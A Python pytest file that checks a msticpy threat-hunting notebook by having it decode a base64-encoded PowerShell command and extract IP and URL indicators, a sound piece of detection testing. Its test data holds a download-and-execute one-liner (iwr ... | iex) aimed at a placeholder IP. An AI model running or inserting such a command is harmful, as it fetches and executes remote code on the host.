"""A notebook that was written for DSDL with msticpy works as it is."""

import base64
import csv
import importlib.util
import io

import pytest

from tests.jupyter.notebooks import msticpy_hunt

pytestmark = pytest.mark.skipif(
    not importlib.util.find_spec("msticpy"), reason="msticpy is in DEV only"
)

SCRIPT = "iwr http://192.0.2.7/stage/a.ps1 -UseBasicParsing | iex"
EVENTS = (
    "CommandLine\n"
    "notepad.exe\n"
    f"powershell -enc {base64.b64encode(SCRIPT.encode('utf-16-le')).decode()}\n"
    '""\n'
)
ROWS = [
    {"decode_validated": "", "ioc_ipv4": "", "ioc_url": ""},
    {
        "decode_validated": SCRIPT,
        "ioc_ipv4": "192.0.2.7",
        "ioc_url": "http://192.0.2.7/stage/a.ps1",
    },
    {"decode_validated": "", "ioc_ipv4": "", "ioc_url": ""},
]


def rows(answer):
    assert answer["status"] == "success", answer["message"]
    return list(csv.DictReader(io.StringIO(answer["results"])))


def test_notebook_with_msticpy_answers_fit_and_apply(hunt, jupyter):
    assert jupyter.put("msticpy_hunt.ipynb", msticpy_hunt()).status_code == 201
    assert rows(hunt.fit(EVENTS, "msticpy_hunt", "m", limits={"max_fit_time": "60"})) == ROWS
    assert rows(hunt.apply(EVENTS, "msticpy_hunt", "m", limits={"max_score_time": "60"})) == ROWS
